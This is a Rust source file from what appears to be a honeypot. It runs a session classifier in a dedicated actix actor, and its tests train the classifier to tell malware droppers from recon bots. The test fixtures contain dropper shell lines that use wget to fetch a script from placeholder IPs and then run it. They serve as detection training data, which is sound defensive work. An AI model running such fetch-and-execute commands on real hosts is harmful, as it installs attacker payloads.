//! [`ClassifierActor`]: Layer 2 inference off the I/O threads.
//!
//! Sessions keep their own features ([`crate::models::features`]) and send the vector after
//! each input line with [`Classify`]; the actor runs the session's trained classifier
//! ([`crate::models::classifier`]) on it and answers with the class and its confidence. The
//! session decides what to announce (`mirage.classification`).
//!
//! The actor holds no model: each message carries the model set the session took when it
//! started, so a reload never changes the class of a running session midway. It is a system
//! service started on an arbiter (thread) of its own, so a burst of classifications never
//! delays SSH or HTTP I/O, and a session that asks the first time starts it.

use std::sync::Arc;

use actix::prelude::*;

use crate::models::Models;
use crate::models::classifier::Prediction;
use crate::models::features::FEATURES;

/// Ask for the class of a session with these features.
#[derive(Debug, Message)]
#[rtype(result = "Option<Prediction>")]
pub struct Classify {
    /// The session's model set (the one it took when it started).
    pub models: Arc<Models>,
    /// The session's features so far.
    pub features: [f64; FEATURES],
}

/// Runs the trained classifier for every session of the node.
#[derive(Debug, Default)]
pub struct ClassifierActor;

impl Actor for ClassifierActor {
    type Context = Context<Self>;
}

impl Supervised for ClassifierActor {}

impl SystemService for ClassifierActor {
    /// Starts the service on a new arbiter rather than on `_worker` (the system's arbiter,
    /// which serves I/O).
    fn start_service(_worker: &ArbiterHandle) -> Addr<Self> {
        let arbiter = Arbiter::new();
        Supervisor::start_in_arbiter(&arbiter.handle(), |_| ClassifierActor)
    }
}

impl Handler<Classify> for ClassifierActor {
    type Result = Option<Prediction>;

    /// The class of the features, or `None` when the set has no trained classifier.
    fn handle(&mut self, msg: Classify, _: &mut Context<Self>) -> Self::Result {
        msg.models
            .classifier
            .as_ref()
            .map(|model| model.predict(&msg.features))
    }
}

/// Which thread the actor runs on (tests check it is not the caller's).
#[cfg(test)]
#[derive(Message)]
#[rtype(result = "std::thread::ThreadId")]
struct WhichThread;

#[cfg(test)]
impl Handler<WhichThread> for ClassifierActor {
    type Result = MessageResult<WhichThread>;

    fn handle(&mut self, _: WhichThread, _: &mut Context<Self>) -> Self::Result {
        MessageResult(std::thread::current().id())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::AuthConfig;
    use crate::models::classifier::{ClassifierModel, Example, TrainParams};
    use crate::models::features::{Protocol, SessionFeatures};
    use crate::models::{Class, ModelHandle};
    use crate::sim::runner::{RunOptions, run_blocking};

    /// A classifier that knows droppers (they fetch a file) from recon bots (they only look).
    fn models() -> Models {
        let example = |class, lines: &[&str]| Example {
            lines: lines
                .iter()
                .enumerate()
                .map(|(i, l)| (Some(i as f64), (*l).to_owned()))
                .collect(),
            protocol: Protocol::default(),
            class,
        };
        let mut examples = Vec::new();
        for _ in 0..10 {
            examples.push(example(
                Class::MalwareDropper,
                &[
                    "uname -a",
                    "cd /tmp; wget http://198.51.100.9/bins.sh; chmod 777 bins.sh; sh bins.sh",
                ],
            ));
            examples.push(example(
                Class::ReconFingerprint,
                &["uname -a", "cat /proc/cpuinfo", "free -m"],
            ));
        }
        let classifier = ClassifierModel::train(&examples, &TrainParams::default(), None).unwrap();
        Models {
            classifier: Some(classifier),
            ..Models::default()
        }
    }

    #[actix::test]
    async fn the_actor_answers_from_the_models_it_is_sent_on_its_own_thread() {
        let addr = ClassifierActor::from_registry();
        let mut features = SessionFeatures::default();
        features.push(
            Some(0.0),
            "cd /var/tmp; wget http://203.0.113.5/x.sh; sh x.sh",
        );
        let answer = addr
            .send(Classify {
                models: Arc::new(models()),
                features: features.vector(None),
            })
            .await
            .unwrap()
            .expect("a trained classifier answers");
        assert_eq!(answer.class, Class::MalwareDropper);
        let none = addr
            .send(Classify {
                models: Arc::new(Models::default()),
                features: features.vector(None),
            })
            .await
            .unwrap();
        assert_eq!(none, None, "no trained classifier, no answer");
        let thread = addr.send(WhichThread).await.unwrap();
        assert_ne!(thread, std::thread::current().id());
    }

    #[test]
    fn a_replayed_dropper_is_classified_by_the_tree() {
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("dropper.yaml");
        let scenario = "version: 1\nname: dropper\nattacker:\n  credentials: [{username: root, password: toor}]\n\
             steps:\n\
             \x20 - input: uname -a\n\
             \x20 - input: cd /var/tmp; wget http://203.0.113.5/x.sh; chmod +x x.sh; sh x.sh\n    delay: 1\n\
             expect:\n  class: malware_dropper\n  events:\n\
             \x20   - eventid: mirage.classification\n      fields: {class: malware_dropper, source: tree}\n";
        std::fs::write(&file, scenario).unwrap();
        let options = RunOptions {
            jobs: 1,
            workers: 1,
            models: ModelHandle::new(models()),
            ..RunOptions::default()
        };
        let (reports, _) = run_blocking(&[file], &AuthConfig::default(), &options, |_| {}).unwrap();
        let report = &reports[0];
        assert!(report.passed, "{}", report.table());
    }
}
